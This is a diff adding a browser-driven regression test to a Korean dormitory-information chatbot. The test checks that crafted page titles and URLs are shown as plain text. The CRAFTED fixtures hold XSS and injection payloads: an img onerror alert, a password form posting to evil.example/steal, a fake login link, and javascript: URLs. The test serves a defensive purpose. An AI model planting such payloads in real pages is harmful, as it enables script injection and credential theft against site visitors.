@@ -49,3 +49,64 @@ def test_the_demo_answers_in_a_browser_with_sources_and_the_model_version(traine
     finally:
         demo.close()
     assert shot.stat().st_size > 10_000
+
+
+CRAFTED = {   # file -> (title, canonical URL): untrusted pages as a crawl may bring them
+    "img.html": ('<img src="https://evil.example/pixel.png" onerror="alert(1)"> 생활관 입사 신청', "https://dorm.chungbuk.ac.kr/notice"),
+    "link.html": ('<a href="https://evil.example/login">로그인</a> 생활관 입사 서류', None),
+    "form.html": ('<form action="https://evil.example/steal"><input type="password" name="pw"><button>확인</button></form> 생활관 입사 비용', None),
+    "breakout.html": ("생활관 입사 일정", "https://dorm.chungbuk.ac.kr/a) [여기를 눌러 로그인](javascript:alert(1)) ("),
+    "markdown.html": ("[공지 보기](https://evil.example/md) 생활관 입사 점호", "javascript:alert(1)"),
+}
+
+
+def test_crafted_page_titles_and_urls_are_shown_as_text_in_the_browser(trained_run, tmp_path):
+    """Issue 24: a title's <img> was fetched, a title's <a> and <form> were live, a canonical URL broke out of the markdown
+    link, and a title's markdown link was a link. Now the only link is the one valid http(s) canonical URL."""
+    from playwright.sync_api import sync_playwright
+
+    from culbot.pipeline_config.schema import RagConfig
+    from culbot.tasks.answer import Answerer
+    from culbot.tasks.demo import build_demo
+    from culbot.tasks.index import build_index
+
+    pages = tmp_path / "pages"
+    pages.mkdir()
+    for name, (title, canonical) in CRAFTED.items():
+        import html as _html
+
+        link = f'<link rel="canonical" href="{_html.escape(canonical)}">' if canonical else ""
+        (pages / name).write_text(f"<html><head><title>{_html.escape(title)}</title>{link}</head><body><h1>생활관 입사 안내</h1>"
+                                  f"<p>생활관 입사 신청은 2월 3일부터 7일까지 학생생활관 누리집에서 합니다. {name} 문서의 안내입니다. "
+                                  f"입사 서류와 비용, 점호 일정도 이곳에서 확인하세요.</p></body></html>", encoding="utf-8")
+    index = build_index(pages, RagConfig(), tmp_path / "index").path
+    answerer = Answerer.load(trained_run / "adapter", index, spec=AnswerSpec(max_new_tokens=4, no_answer_threshold=0.0, context_k=5))
+    assert {s.url for s in answerer.reply("생활관 입사 신청은 언제 해요?").sources} >= {"https://dorm.chungbuk.ac.kr/notice"}
+    port = free_port()
+    demo = build_demo(answerer)
+    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
+    try:
+        with sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+            page = browser.new_page(viewport={"width": 1100, "height": 1400})
+            asked: list[str] = []
+            page.on("request", lambda r: asked.append(r.url))
+            page.goto(f"http://127.0.0.1:{port}/", wait_until="load")
+            page.wait_for_selector("textarea", timeout=60_000)
+            box = page.locator("textarea").first
+            box.fill("생활관 입사 신청은 언제 해요?")
+            box.press("Enter")
+            page.get_by_text("출처").first.wait_for(timeout=60_000)
+            bot = page.locator(".message.bot, [data-testid='bot']").last
+            shown = bot.inner_text()
+            page.screenshot(path=str(tmp_path / "crafted.png"), full_page=True)
+            links = [a.get_attribute("href") for a in bot.locator("a").all()]
+            counts = {tag: bot.locator(tag).count() for tag in ("img", "form", "input", "button", "script", "iframe")}
+            browser.close()
+    finally:
+        demo.close()
+    assert links == ["https://dorm.chungbuk.ac.kr/notice"], links
+    assert counts == dict.fromkeys(counts, 0), counts
+    assert '<img src="https://evil.example/pixel.png"' in shown and '<form action="https://evil.example/steal">' in shown
+    assert "[공지 보기](https://evil.example/md)" in shown   # a title's markdown, as text
+    assert not [u for u in asked if "evil.example" in u], asked
